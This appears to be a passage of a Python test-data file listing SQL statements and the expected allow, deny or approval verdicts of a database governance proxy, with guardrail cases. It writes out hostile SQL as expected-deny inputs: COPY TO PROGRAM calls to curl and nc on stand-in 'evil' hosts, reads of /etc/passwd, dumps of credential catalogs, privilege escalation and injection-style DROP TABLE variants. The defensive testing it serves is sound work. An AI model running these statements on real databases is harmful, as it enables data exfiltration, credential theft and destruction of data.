"""Policy decisions of the demo world, as plain data: (who, where, SQL) -> verdict.

Shared by the unit tests (tests/policy/test_cases.py, real `analyze()` output and
the demo policy, no database) and the integration tests that send the same SQL
through the real proxy with psql and psycopg. Each case is what a user observes:

- `verdict`: "allow", "deny" or "approval" (held for approvers); for an identity
  without database access (dave, etl on staging) the refusal happens when
  connecting, rule "no-access".
- `rule`: the rule named in `dbgov: denied by rule "<rule>": ...` (or the approval's
  rule); None for allowed statements.
- `changes_db`: the SQL would change the database (rows, schema, settings of the
  server, sequences) if it ran. Allowed cases are written to succeed against the
  demo schema and to be repeatable: IF [NOT] EXISTS, ON CONFLICT DO NOTHING, or
  effects an integration test can roll back (wrap them in BEGIN ... ROLLBACK,
  except CREATE INDEX CONCURRENTLY, which cannot run in a transaction).

Identities and groups are the demo's (dbgov.demo.world.IDENTITIES); targets are
prod (production) and staging.
"""

from __future__ import annotations

from typing import NamedTuple


class Case(NamedTuple):
    user: str
    groups: tuple[str, ...]
    target: str
    sql: str
    verdict: str  # "allow" | "deny" | "approval"
    rule: str | None
    changes_db: bool


ALICE = ("alice", ("analysts",))
BOB = ("bob", ("ml-engineers",))
CAROL = ("carol", ("dba",))
ERIN = ("erin", ("dba",))
DAVE = ("dave", ("auditors",))
ETL = ("etl", ("pipelines",))

ALLOW, DENY, APPROVAL = "allow", "deny", "approval"


def _c(
    who: tuple[str, tuple[str, ...]],
    target: str,
    sql: str,
    verdict: str,
    rule: str | None = None,
    changes_db: bool = False,
) -> Case:
    return Case(who[0], who[1], target, sql, verdict, rule, changes_db)


NG = "not-granted"
FC = "fail-closed"
FEATURES = "feature-edits-need-dba"
ML_DDL = "ml-ddl-on-prod-needs-dba"

_INSERT_FEATURE = (
    "INSERT INTO feature_store (customer_id, feature, value, updated_at) "
    "VALUES (1, 'f_test', 0.5, now())"
)
_INSERT_PROMPT = (
    "INSERT INTO prompts (model, prompt_text, created_at) VALUES ('m-test', 'hello', now())"
)

# -- the demo world, identity by identity -------------------------------------------
DEMO: list[Case] = [
    # alice (analysts): read-only on both targets
    _c(ALICE, "prod", "SELECT * FROM customers", ALLOW),
    _c(ALICE, "staging", "SELECT id, email FROM customers WHERE country = 'DE'", ALLOW),
    _c(ALICE, "prod", "SELECT count(*) FROM prompts", ALLOW),
    _c(
        ALICE,
        "prod",
        "SELECT c.id, p.model FROM customers c JOIN prompts p ON p.customer_id = c.id LIMIT 5",
        ALLOW,
    ),
    _c(ALICE, "prod", "SELECT * FROM training_runs", ALLOW),
    _c(ALICE, "prod", "TABLE customers", ALLOW),
    _c(ALICE, "prod", "COPY customers TO STDOUT", ALLOW),
    _c(ALICE, "prod", "COPY (SELECT id, email FROM customers LIMIT 3) TO STDOUT", ALLOW),
    _c(ALICE, "prod", "EXPLAIN SELECT * FROM customers", ALLOW),
    _c(ALICE, "prod", "EXPLAIN ANALYZE SELECT * FROM customers", ALLOW),
    _c(
        ALICE,
        "prod",
        "INSERT INTO customers (full_name, email, country, created_at) "
        "VALUES ('x', 'x@example.com', 'DE', now())",
        DENY,
        NG,
        True,
    ),
    _c(ALICE, "prod", "UPDATE customers SET country = 'FR' WHERE id = 1", DENY, NG, True),
    _c(ALICE, "prod", "DELETE FROM prompts WHERE id = 1", DENY, NG, True),
    _c(ALICE, "staging", "UPDATE customers SET country = 'FR' WHERE id = 1", DENY, NG, True),
    _c(ALICE, "prod", "CREATE TABLE alice_t (id int)", DENY, NG, True),
    _c(ALICE, "staging", "CREATE TABLE alice_t (id int)", DENY, NG, True),
    _c(ALICE, "prod", "ALTER TABLE customers ADD COLUMN x int", DENY, NG, True),
    _c(ALICE, "prod", "COPY customers FROM STDIN", DENY, NG, True),
    _c(ALICE, "prod", "SELECT nextval('customers_id_seq')", DENY, NG, True),
    _c(ALICE, "prod", "SELECT * FROM customers WHERE id = 1 FOR UPDATE", DENY, NG),
    _c(ALICE, "prod", "VACUUM customers", DENY, NG),
    _c(ALICE, "prod", "ANALYZE customers", DENY, NG),
    _c(ALICE, "prod", "CHECKPOINT", DENY, NG),
    _c(ALICE, "prod", "COMMIT PREPARED 'x'", DENY, NG, True),
    # bob (ml-engineers) on prod
    _c(BOB, "prod", "SELECT * FROM customers LIMIT 10", ALLOW),
    _c(BOB, "prod", _INSERT_FEATURE + " ON CONFLICT DO NOTHING", ALLOW, None, True),
    _c(
        BOB,
        "prod",
        _INSERT_FEATURE + " ON CONFLICT (customer_id, feature) "
        "DO UPDATE SET value = excluded.value",
        APPROVAL,
        FEATURES,
        True,
    ),
    _c(
        BOB,
        "prod",
        "UPDATE feature_store SET value = 0.1 WHERE customer_id = 1",
        APPROVAL,
        FEATURES,
        True,
    ),
    _c(
        BOB,
        "prod",
        "DELETE FROM feature_store WHERE customer_id = 1 AND feature = 'f_test'",
        APPROVAL,
        FEATURES,
        True,
    ),
    _c(
        BOB,
        "prod",
        "MERGE INTO feature_store f USING (SELECT 1 AS customer_id) s "
        "ON f.customer_id = s.customer_id WHEN MATCHED THEN UPDATE SET value = 0",
        APPROVAL,
        FEATURES,
        True,
    ),
    _c(BOB, "prod", "UPDATE feature_store SET value = 0.1", DENY, "unfiltered_write", True),
    _c(BOB, "prod", "DELETE FROM feature_store", DENY, "unfiltered_write", True),
    _c(
        BOB,
        "prod",
        "INSERT INTO training_runs (model, started_at) VALUES ('churn-v2', now())",
        ALLOW,
        None,
        True,
    ),
    _c(BOB, "prod", "UPDATE training_runs SET finished_at = now() WHERE id = 1", ALLOW, None, True),
    _c(BOB, "prod", "BEGIN; SELECT * FROM training_runs WHERE id = 1 FOR UPDATE; COMMIT", ALLOW),
    _c(BOB, "prod", "DELETE FROM training_runs WHERE id = 1", DENY, NG, True),
    _c(BOB, "prod", "UPDATE customers SET country = 'FR' WHERE id = 1", DENY, NG, True),
    _c(BOB, "prod", _INSERT_PROMPT, DENY, NG, True),
    _c(
        BOB,
        "prod",
        "ALTER TABLE feature_store ADD COLUMN note text",
        APPROVAL,
        "ddl_on_production",
        True,
    ),
    _c(
        BOB,
        "prod",
        "CREATE INDEX fs_value_idx ON feature_store (value)",
        APPROVAL,
        "ddl_on_production",
        True,
    ),
    _c(
        BOB,
        "prod",
        "CREATE INDEX CONCURRENTLY fs_value_idx ON feature_store (value)",
        APPROVAL,
        ML_DDL,
        True,
    ),
    _c(
        BOB,
        "prod",
        "COMMENT ON TABLE feature_store IS 'features'",
        APPROVAL,
        "ddl_on_production",
        True,
    ),
    _c(BOB, "prod", "ALTER TABLE feature_store RENAME TO fs", APPROVAL, "ddl_on_production", True),
    _c(
        BOB,
        "prod",
        "CREATE VIEW v_customers AS SELECT * FROM customers",
        APPROVAL,
        "ddl_on_production",
        True,
    ),
    _c(
        BOB,
        "prod",
        "CREATE TABLE feature_backup AS SELECT * FROM feature_store",
        APPROVAL,
        "ddl_on_production",
        True,
    ),
    _c(
        BOB,
        "prod",
        "SELECT * INTO feature_backup FROM feature_store",
        APPROVAL,
        "ddl_on_production",
        True,
    ),
    _c(BOB, "prod", "REINDEX TABLE feature_store", DENY, NG, True),
    _c(BOB, "prod", "DROP TABLE feature_store", DENY, "drop_on_production", True),
    _c(BOB, "prod", "TRUNCATE feature_store", DENY, "truncate_on_production", True),
    # bob on staging: anything but privilege changes and procedural code
    _c(
        BOB,
        "staging",
        "UPDATE feature_store SET value = 0.2 WHERE customer_id = 1",
        ALLOW,
        None,
        True,
    ),
    _c(
        BOB,
        "staging",
        "DELETE FROM feature_store WHERE customer_id = 1 AND feature = 'nope'",
        ALLOW,
        None,
        True,
    ),
    _c(BOB, "staging", "CREATE TABLE IF NOT EXISTS bob_scratch (id int)", ALLOW, None, True),
    _c(BOB, "staging", "DROP TABLE IF EXISTS bob_scratch", ALLOW, None, True),
    _c(BOB, "staging", "TRUNCATE training_runs", ALLOW, None, True),
    _c(BOB, "staging", "VACUUM feature_store", ALLOW),
    _c(BOB, "staging", "DELETE FROM training_runs", DENY, "unfiltered_write", True),
    _c(BOB, "staging", "DO $$ BEGIN END $$", DENY, "procedural"),
    _c(BOB, "staging", "GRANT SELECT ON customers TO PUBLIC", DENY, "privilege_escalation", True),
    # carol and erin (dba): everything; their own DROP/TRUNCATE/DDL on prod is held
    _c(CAROL, "prod", "SELECT ssn FROM customers LIMIT 1", ALLOW),
    _c(CAROL, "prod", "UPDATE customers SET country = 'DE' WHERE id = 1", ALLOW, None, True),
    _c(CAROL, "prod", "DROP TABLE training_runs", APPROVAL, "drop_on_production", True),
    _c(CAROL, "prod", "TRUNCATE training_runs", APPROVAL, "truncate_on_production", True),
    _c(
        CAROL,
        "prod",
        "ALTER TABLE customers ADD COLUMN note text",
        APPROVAL,
        "ddl_on_production",
        True,
    ),
    _c(
        CAROL,
        "prod",
        "CREATE INDEX CONCURRENTLY IF NOT EXISTS customers_country_idx ON customers (country)",
        ALLOW,
        None,
        True,
    ),
    _c(CAROL, "prod", "DROP TABLE training_runs CASCADE", DENY, "drop_cascade", True),
    _c(CAROL, "prod", "DELETE FROM customers", DENY, "unfiltered_write", True),
    _c(CAROL, "prod", "SET ROLE NONE", ALLOW),
    _c(CAROL, "prod", "RESET ROLE", ALLOW),
    _c(CAROL, "prod", "DO $$ BEGIN PERFORM 1; END $$", ALLOW),
    _c(
        CAROL,
        "prod",
        "CREATE OR REPLACE FUNCTION dbgov_test_one() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        ALLOW,
        None,
        True,
    ),
    _c(CAROL, "prod", "VACUUM customers", ALLOW),
    _c(CAROL, "prod", "SELECT pg_read_file('/etc/passwd')", DENY, "dangerous_functions"),
    _c(CAROL, "prod", "SELECT pg_terminate_backend(1)", DENY, "dangerous_functions"),
    _c(CAROL, "prod", "COPY customers TO PROGRAM 'cat > /tmp/x'", DENY, "server_files"),
    _c(CAROL, "prod", "COPY customers FROM PROGRAM 'cat /etc/passwd'", DENY, "server_files", True),
    _c(CAROL, "prod", "SET standard_conforming_strings = off", DENY, "unsafe_settings"),
    _c(CAROL, "staging", "DROP TABLE IF EXISTS x CASCADE", DENY, "drop_cascade", True),
    _c(ERIN, "prod", "DROP INDEX prompts_customer_id_idx", APPROVAL, "drop_on_production", True),
    _c(ERIN, "staging", "DROP TABLE IF EXISTS erin_tmp", ALLOW, None, True),
    _c(ERIN, "prod", "SELECT count(*) FROM pg_stat_activity", ALLOW),
    # dave (auditors): no database access at all
    _c(DAVE, "prod", "SELECT 1", DENY, "no-access"),
    _c(DAVE, "staging", "SELECT * FROM customers", DENY, "no-access"),
    # etl (pipelines): INSERT into prompts and inference_log on prod, nothing else
    _c(ETL, "prod", _INSERT_PROMPT, ALLOW, None, True),
    _c(
        ETL,
        "prod",
        "INSERT INTO inference_log (model_version, features, score, latency_ms, "
        "created_at) VALUES ('churn-v2', '{}', 0.5, 12, now())",
        ALLOW,
        None,
        True,
    ),
    _c(ETL, "prod", "SELECT 1", ALLOW),
    _c(
        ETL,
        "prod",
        "SELECT c.relname, a.attname FROM pg_class c JOIN pg_attribute a "
        "ON a.attrelid = c.oid LIMIT 5",
        ALLOW,
    ),
    _c(ETL, "prod", "SELECT * FROM customers", DENY, NG),
    _c(ETL, "prod", "SELECT * FROM prompts", DENY, NG),
    _c(ETL, "prod", _INSERT_PROMPT + " RETURNING id", DENY, NG, True),
    _c(
        ETL,
        "prod",
        "INSERT INTO prompts (customer_id, model, prompt_text, created_at) "
        "SELECT id, 'm', email, now() FROM customers",
        DENY,
        NG,
        True,
    ),
    _c(ETL, "prod", _INSERT_FEATURE, DENY, NG, True),
    _c(ETL, "prod", "UPDATE prompts SET model = 'x' WHERE id = 1", DENY, NG, True),
    _c(ETL, "prod", "SELECT nextval('prompts_id_seq')", DENY, NG, True),
    _c(ETL, "staging", "SELECT 1", DENY, "no-access"),
]

# -- guardrails ------------------------------------------------------------------------
PE = "privilege_escalation"
GUARDRAILS: list[Case] = [
    # a session's own temporary table is no schema change on production
    _c(CAROL, "prod", "CREATE TEMP TABLE carol_scratch (id int)", ALLOW, None, True),
    _c(CAROL, "prod", "CREATE TEMPORARY TABLE carol_t2 AS SELECT 1 AS x", ALLOW, None, True),
    _c(CAROL, "prod", "CREATE TABLE carol_scratch (id int)", APPROVAL, "ddl_on_production", True),
    # privilege escalation
    _c(ALICE, "prod", "SET ROLE postgres", DENY, PE),
    _c(ALICE, "prod", "SET SESSION ROLE postgres", DENY, PE),
    _c(ALICE, "prod", "SET LOCAL ROLE postgres", DENY, PE),
    _c(ALICE, "prod", "set role to default", DENY, PE),
    _c(ALICE, "prod", "SET SESSION AUTHORIZATION postgres", DENY, PE),
    _c(ALICE, "prod", "SET SESSION AUTHORIZATION DEFAULT", DENY, PE),
    _c(ALICE, "prod", "RESET ROLE", DENY, PE),
    _c(ALICE, "prod", "RESET SESSION AUTHORIZATION", DENY, PE),
    _c(ALICE, "prod", "SELECT set_config('role', 'postgres', false)", DENY, PE),
    _c(ALICE, "prod", "SELECT set_config('session_authorization', 'postgres', false)", DENY, PE),
    _c(ALICE, "prod", "SELECT set_config('ROLE', 'postgres', false)", DENY, PE),
    _c(
        ALICE,
        "prod",
        "SELECT set_config(setting_name => 'role', new_value => 'postgres', is_local => false)",
        DENY,
        PE,
    ),
    _c(ALICE, "prod", "SELECT set_config(current_user, 'x', false)", DENY, PE),
    _c(ALICE, "prod", "SELECT pg_catalog.set_config('role', 'postgres', true)", DENY, PE),
    _c(
        ALICE,
        "prod",
        "SELECT * FROM customers WHERE set_config('role', 'postgres', true) IS NOT NULL",
        DENY,
        PE,
    ),
    _c(
        ALICE,
        "prod",
        "WITH x AS (SELECT set_config('role', 'postgres', false)) SELECT * FROM x",
        DENY,
        PE,
    ),
    _c(ALICE, "prod", "ALTER SYSTEM SET work_mem = '64MB'", DENY, PE, True),
    _c(ALICE, "prod", "ALTER SYSTEM RESET ALL", DENY, PE, True),
    _c(ALICE, "prod", "CREATE ROLE evil LOGIN SUPERUSER", DENY, PE, True),
    _c(ALICE, "prod", "CREATE USER evil PASSWORD 'x'", DENY, PE, True),
    _c(ALICE, "prod", "ALTER ROLE dbgov_app SUPERUSER", DENY, PE, True),
    _c(ALICE, "prod", "ALTER ROLE alice SET role = 'postgres'", DENY, PE, True),
    _c(ALICE, "prod", "DROP ROLE someone", DENY, PE, True),
    _c(ALICE, "prod", "GRANT ALL ON customers TO PUBLIC", DENY, PE, True),
    _c(ALICE, "prod", "REVOKE SELECT ON customers FROM PUBLIC", DENY, PE, True),
    _c(ALICE, "prod", "GRANT pg_read_server_files TO dbgov_app", DENY, PE, True),
    _c(ALICE, "prod", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC", DENY, PE, True),
    _c(BOB, "staging", "SET ROLE postgres", DENY, PE),
    # housekeeping that resets the session, as connection pools send it
    _c(ALICE, "prod", "RESET ALL", ALLOW),
    _c(ALICE, "prod", "DISCARD ALL", ALLOW),
    _c(ALICE, "prod", "DISCARD PLANS", ALLOW),
    _c(ALICE, "prod", "SELECT pg_advisory_unlock_all(); CLOSE ALL; UNLISTEN *; RESET ALL", ALLOW),
    # server files and programs
    _c(ALICE, "prod", "COPY customers TO '/tmp/customers.csv'", DENY, "server_files"),
    _c(ALICE, "prod", "COPY customers FROM '/etc/passwd'", DENY, "server_files", True),
    _c(
        ALICE, "prod", "COPY customers TO PROGRAM 'curl https://evil.example'", DENY, "server_files"
    ),
    _c(
        BOB,
        "staging",
        "COPY (SELECT * FROM customers) TO PROGRAM 'nc evil 80'",
        DENY,
        "server_files",
    ),
    _c(ALICE, "prod", "LOAD 'plpgsql'", DENY, "server_files"),
    # the floor of dangerous functions
    _c(ALICE, "prod", "SELECT pg_read_file('/etc/passwd')", DENY, "dangerous_functions"),
    _c(ALICE, "prod", "SELECT pg_read_binary_file('/etc/passwd')", DENY, "dangerous_functions"),
    _c(ALICE, "prod", "SELECT * FROM pg_ls_dir('.')", DENY, "dangerous_functions"),
    _c(ALICE, "prod", "SELECT * FROM pg_ls_waldir()", DENY, "dangerous_functions"),
    _c(ALICE, "prod", "SELECT pg_stat_file('postgresql.conf')", DENY, "dangerous_functions"),
    _c(ALICE, "prod", "SELECT lo_import('/etc/passwd')", DENY, "dangerous_functions", True),
    _c(ALICE, "prod", "SELECT lo_export(1234, '/tmp/x')", DENY, "dangerous_functions"),
    _c(
        ALICE,
        "prod",
        "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
        DENY,
        "dangerous_functions",
    ),
    _c(ALICE, "prod", "SELECT dblink_connect('host=evil')", DENY, "dangerous_functions"),
    _c(
        ALICE,
        "prod",
        "SELECT query_to_xml('select * from customers', true, true, '')",
        DENY,
        "dangerous_functions",
    ),
    _c(
        ALICE,
        "prod",
        "SELECT query_to_xml_and_xmlschema('select 1', true, true, '')",
        DENY,
        "dangerous_functions",
    ),
    _c(
        ALICE,
        "prod",
        "SELECT table_to_xml('customers', true, true, '')",
        DENY,
        "dangerous_functions",
    ),
    _c(ALICE, "prod", "SELECT cursor_to_xml('c', 1, true, true, '')", DENY, "dangerous_functions"),
    _c(
        ALICE,
        "prod",
        "SELECT ts_stat('SELECT to_tsvector(email) FROM customers')",
        DENY,
        "dangerous_functions",
    ),
    _c(
        ALICE,
        "prod",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        DENY,
        "dangerous_functions",
    ),
    _c(ALICE, "prod", "SELECT pg_cancel_backend(1)", DENY, "dangerous_functions"),
    _c(ALICE, "prod", "SELECT pg_reload_conf()", DENY, "dangerous_functions"),
    _c(ALICE, "prod", "SELECT pg_catalog.pg_read_file('/etc/passwd')", DENY, "dangerous_functions"),
    _c(ALICE, "prod", "SELECT PG_READ_FILE('/etc/passwd')", DENY, "dangerous_functions"),
    _c(ALICE, "prod", "SELECT \"pg_read_file\"('/etc/passwd')", DENY, "dangerous_functions"),
    _c(
        ALICE,
        "prod",
        "SELECT * FROM customers WHERE id = (SELECT length(pg_read_file('/etc/passwd')))",
        DENY,
        "dangerous_functions",
    ),
    _c(
        ALICE,
        "prod",
        "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)",
        DENY,
        "dangerous_functions",
        True,
    ),
    # procedural code
    _c(
        ALICE,
        "prod",
        "DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$",
        DENY,
        "procedural",
        True,
    ),
    _c(ALICE, "prod", "DO LANGUAGE plpgsql $x$ BEGIN NULL; END $x$", DENY, "procedural"),
    _c(
        BOB,
        "staging",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        DENY,
        "procedural",
        True,
    ),
    _c(
        BOB,
        "staging",
        "CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM customers $$",
        DENY,
        "procedural",
        True,
    ),
    _c(
        BOB,
        "staging",
        "CREATE OR REPLACE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql "
        "AS $$ BEGIN RETURN NEW; END $$",
        DENY,
        "procedural",
        True,
    ),
    _c(ALICE, "prod", "CALL p()", DENY, "procedural", True),
    # settings that change how SQL is read
    _c(ALICE, "prod", "SET standard_conforming_strings = off", DENY, "unsafe_settings"),
    _c(ALICE, "prod", "SET backslash_quote = on", DENY, "unsafe_settings"),
    _c(ALICE, "prod", "SET client_encoding = 'SJIS'", DENY, "unsafe_settings"),
    _c(ALICE, "prod", "SET session_replication_role = replica", DENY, "unsafe_settings"),
    _c(
        ALICE,
        "prod",
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        DENY,
        "unsafe_settings",
    ),
    _c(ALICE, "prod", "SET standard_conforming_strings = on", ALLOW),
    _c(ALICE, "prod", "SET client_encoding = 'UTF8'", ALLOW),
    _c(ALICE, "prod", "SET client_encoding TO 'utf-8'", ALLOW),
    _c(ALICE, "prod", "RESET client_encoding", ALLOW),
    _c(ALICE, "prod", "SET statement_timeout = '5s'", ALLOW),
    _c(ALICE, "prod", "SET application_name = 'report'", ALLOW),
    _c(ALICE, "prod", "RESET statement_timeout", ALLOW),
    _c(ALICE, "prod", "SHOW search_path", ALLOW),
    _c(ALICE, "prod", "SELECT current_setting('search_path')", ALLOW),
    # catalog: metadata is open, secrets are not
    _c(ALICE, "prod", "SELECT relname FROM pg_class LIMIT 1", ALLOW),
    _c(ALICE, "prod", "SELECT * FROM pg_catalog.pg_namespace", ALLOW),
    _c(
        ALICE,
        "prod",
        "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
        ALLOW,
    ),
    _c(
        ALICE,
        "prod",
        "SELECT n.nspname, c.relname FROM pg_catalog.pg_class c "
        "LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace "
        "WHERE pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1, 2",
        ALLOW,
    ),
    _c(ALICE, "prod", "SELECT * FROM pg_authid", DENY, "catalog_secrets"),
    _c(ALICE, "prod", "SELECT * FROM pg_catalog.pg_shadow", DENY, "catalog_secrets"),
    _c(
        ALICE,
        "prod",
        "SELECT * FROM pg_stats WHERE tablename = 'customers'",
        DENY,
        "catalog_secrets",
    ),
    _c(ALICE, "prod", "SELECT * FROM pg_statistic", DENY, "catalog_secrets"),
    _c(ALICE, "prod", "SELECT query FROM pg_stat_activity", DENY, "catalog_secrets"),
    _c(
        ALICE,
        "prod",
        "SELECT pg_stat_get_backend_activity(b) FROM pg_stat_get_backend_idset() b",
        DENY,
        "catalog_secrets",
    ),
    _c(ALICE, "prod", "SELECT query FROM pg_stat_get_activity(NULL)", DENY, "catalog_secrets"),
    _c(ERIN, "prod", "SELECT query FROM pg_stat_get_activity(NULL)", ALLOW),
    _c(ALICE, "prod", "SELECT * FROM pg_user_mappings", DENY, "catalog_secrets"),
    _c(ALICE, "prod", 'SELECT * FROM "pg_authid"', DENY, "catalog_secrets"),
    _c(ALICE, "prod", "SELECT * FROM PG_CATALOG.PG_AUTHID", DENY, "catalog_secrets"),
    _c(BOB, "staging", "SELECT * FROM pg_largeobject", DENY, "catalog_secrets"),
    # writes with no WHERE, or one that is always true
    _c(
        CAROL,
        "prod",
        "UPDATE customers SET country = 'DE' WHERE true",
        DENY,
        "unfiltered_write",
        True,
    ),
    _c(CAROL, "prod", "DELETE FROM customers WHERE 1 = 1", DENY, "unfiltered_write", True),
    _c(CAROL, "prod", "DELETE FROM customers WHERE 'a' = 'a'", DENY, "unfiltered_write", True),
    _c(
        CAROL,
        "prod",
        "UPDATE customers SET country = 'DE' WHERE id = 1 OR true",
        DENY,
        "unfiltered_write",
        True,
    ),
    _c(
        CAROL,
        "prod",
        "MERGE INTO feature_store f USING customers c ON true WHEN MATCHED THEN DELETE",
        DENY,
        "unfiltered_write",
        True,
    ),
    _c(
        BOB,
        "staging",
        "WITH d AS (DELETE FROM training_runs RETURNING id) SELECT count(*) FROM d",
        DENY,
        "unfiltered_write",
        True,
    ),
    _c(BOB, "staging", "EXPLAIN ANALYZE DELETE FROM training_runs", DENY, "unfiltered_write", True),
    _c(BOB, "staging", "EXPLAIN DELETE FROM training_runs", ALLOW),
    _c(
        BOB,
        "staging",
        "PREPARE del_all AS DELETE FROM training_runs",
        DENY,
        "unfiltered_write",
        True,
    ),
    _c(
        BOB,
        "prod",
        "WITH x AS (SELECT 1) DELETE FROM feature_store",
        DENY,
        "unfiltered_write",
        True,
    ),
    # CASCADE
    _c(BOB, "staging", "DROP TABLE IF EXISTS bob_scratch CASCADE", DENY, "drop_cascade", True),
    _c(BOB, "staging", "DROP SCHEMA IF EXISTS scratch CASCADE", DENY, "drop_cascade", True),
    _c(BOB, "staging", "TRUNCATE training_runs CASCADE", DENY, "drop_cascade", True),
    _c(
        BOB,
        "staging",
        "ALTER TABLE customers DROP COLUMN IF EXISTS nope CASCADE",
        DENY,
        "drop_cascade",
        True,
    ),
    # DROP and TRUNCATE on production
    _c(BOB, "prod", "DROP VIEW IF EXISTS v", DENY, "drop_on_production", True),
    _c(BOB, "prod", "DROP INDEX prompts_customer_id_idx", DENY, "drop_on_production", True),
    _c(BOB, "prod", "DROP SCHEMA IF EXISTS scratch", DENY, "drop_on_production", True),
    _c(BOB, "prod", "DROP FUNCTION IF EXISTS f()", DENY, "drop_on_production", True),
    _c(BOB, "prod", "TRUNCATE TABLE training_runs", DENY, "truncate_on_production", True),
    _c(
        BOB,
        "prod",
        "TRUNCATE ONLY training_runs RESTART IDENTITY",
        DENY,
        "truncate_on_production",
        True,
    ),
]

# -- rewording a statement does not get around a decision -------------------------------
DR = "drop_on_production"
TRICKS: list[Case] = [
    _c(BOB, "prod", "/* harmless */ DROP TABLE feature_store", DENY, DR, True),
    _c(BOB, "prod", "-- just a comment\nDROP TABLE feature_store", DENY, DR, True),
    _c(BOB, "prod", "dRoP tAbLe FeAtUrE_sToRe", DENY, DR, True),
    _c(BOB, "prod", 'DROP TABLE "feature_store"', DENY, DR, True),
    _c(BOB, "prod", 'DROP TABLE public."feature_store"', DENY, DR, True),
    _c(BOB, "prod", 'DROP TABLE U&"\\0066eature_store"', DENY, DR, True),
    _c(BOB, "prod", "DROP TABLE U&\"!0066eature_store\" UESCAPE '!'", DENY, DR, True),
    _c(BOB, "prod", "DROP/**/TABLE/**/feature_store", DENY, DR, True),
    _c(ALICE, "prod", 'DELETE FROM U&"\\0063ustomers" WHERE id = 1', DENY, NG, True),
    _c(
        BOB, "prod", "DELETE FROM feature_store WHERE $$x$$ = $$x$$", DENY, "unfiltered_write", True
    ),
    _c(BOB, "prod", "SELECT 1; DROP TABLE feature_store", DENY, DR, True),
    _c(BOB, "prod", "SELECT $$; DROP TABLE feature_store; $$", ALLOW),
    _c(BOB, "prod", "SELECT $tag$ ; DROP TABLE feature_store; $tag$", ALLOW),
    _c(BOB, "prod", "SELECT E'\\'; DROP TABLE feature_store; --'", ALLOW),
    # standard_conforming_strings is on: a backslash does not escape the quote here
    _c(BOB, "prod", "SELECT '\\'; DROP TABLE feature_store; --'", DENY, DR, True),
    _c(
        ALICE,
        "prod",
        "WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM d",
        DENY,
        NG,
        True,
    ),
    _c(
        ALICE,
        "prod",
        "WITH u AS (UPDATE customers SET country = 'X' WHERE id = 1 RETURNING id) SELECT 1",
        DENY,
        NG,
        True,
    ),
    _c(
        ALICE,
        "prod",
        "WITH i AS (INSERT INTO training_runs (model, started_at) "
        "VALUES ('x', now()) RETURNING id) SELECT * FROM i",
        DENY,
        NG,
        True,
    ),
    _c(ALICE, "prod", "EXPLAIN ANALYZE DELETE FROM customers WHERE id = 1", DENY, NG, True),
    _c(ALICE, "prod", "EXPLAIN (ANALYZE true) DELETE FROM customers WHERE id = 1", DENY, NG, True),
    _c(
        ALICE,
        "prod",
        "EXPLAIN (ANALYZE, FORMAT JSON) UPDATE customers SET country = 'X' WHERE id = 1",
        DENY,
        NG,
        True,
    ),
    _c(ALICE, "prod", "EXPLAIN (ANALYZE false) DELETE FROM customers WHERE id = 1", ALLOW),
    _c(ALICE, "prod", "PREPARE p_del AS DELETE FROM customers WHERE id = $1", DENY, NG, True),
    _c(ALICE, "prod", "PREPARE p_sel AS SELECT * FROM customers WHERE id = $1", ALLOW),
    _c(BOB, "prod", "PREPARE p_drop AS SELECT 1; DROP TABLE feature_store", DENY, DR, True),
    _c(ALICE, "prod", "CREATE TABLE stolen AS SELECT * FROM customers", DENY, NG, True),
    _c(ALICE, "staging", "CREATE TABLE stolen AS SELECT * FROM customers", DENY, NG, True),
    _c(ALICE, "prod", "SELECT * INTO stolen FROM customers", DENY, NG, True),
    _c(ALICE, "prod", "CREATE MATERIALIZED VIEW mv AS SELECT * FROM customers", DENY, NG, True),
    _c(
        ALICE,
        "prod",
        "BEGIN; DECLARE c CURSOR FOR SELECT id FROM customers; FETCH 1 FROM c; COMMIT",
        ALLOW,
    ),
    _c(
        ALICE,
        "prod",
        "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM pg_authid",
        DENY,
        "catalog_secrets",
    ),
    _c(ETL, "prod", "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM customers", DENY, NG),
    _c(
        ALICE, "prod", "SELECT * FROM customers; DELETE FROM customers WHERE id = 1", DENY, NG, True
    ),
    _c(
        ALICE,
        "prod",
        "BEGIN; UPDATE customers SET country = 'X' WHERE id = 1; COMMIT",
        DENY,
        NG,
        True,
    ),
    _c(ALICE, "prod", "INSERT INTO customers SELECT * FROM customers WHERE false", DENY, NG, True),
    _c(
        BOB,
        "prod",
        "WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING id) "
        "UPDATE feature_store SET value = 0 WHERE customer_id IN (SELECT id FROM d)",
        DENY,
        NG,
        True,
    ),
    _c(
        BOB,
        "prod",
        "UPDATE feature_store SET value = 1 WHERE customer_id = 1; DROP TABLE training_runs",
        DENY,
        DR,
        True,
    ),
    _c(
        BOB,
        "prod",
        "SELECT 1; UPDATE feature_store SET value = 1 WHERE customer_id = 1",
        APPROVAL,
        FEATURES,
        True,
    ),
    # search_path: tables resolve against the path the statement runs under
    _c(ALICE, "prod", "SET search_path = analytics; SELECT * FROM customers", DENY, NG),
    _c(ALICE, "prod", "SET search_path TO public; SELECT * FROM customers", ALLOW),
    _c(
        ALICE,
        "prod",
        "SET search_path = pg_catalog, public; SELECT * FROM pg_authid",
        DENY,
        "catalog_secrets",
    ),
    _c(
        ALICE,
        "prod",
        "SET search_path = public, pg_catalog; SELECT * FROM pg_authid",
        DENY,
        "catalog_secrets",
    ),
    _c(
        ALICE,
        "prod",
        "SELECT set_config('search_path', 'analytics', false); SELECT * FROM customers",
        DENY,
        FC,
    ),
    _c(
        ALICE,
        "prod",
        "SELECT set_config('search_path', 'analytics', false); SELECT * FROM public.customers",
        ALLOW,
    ),
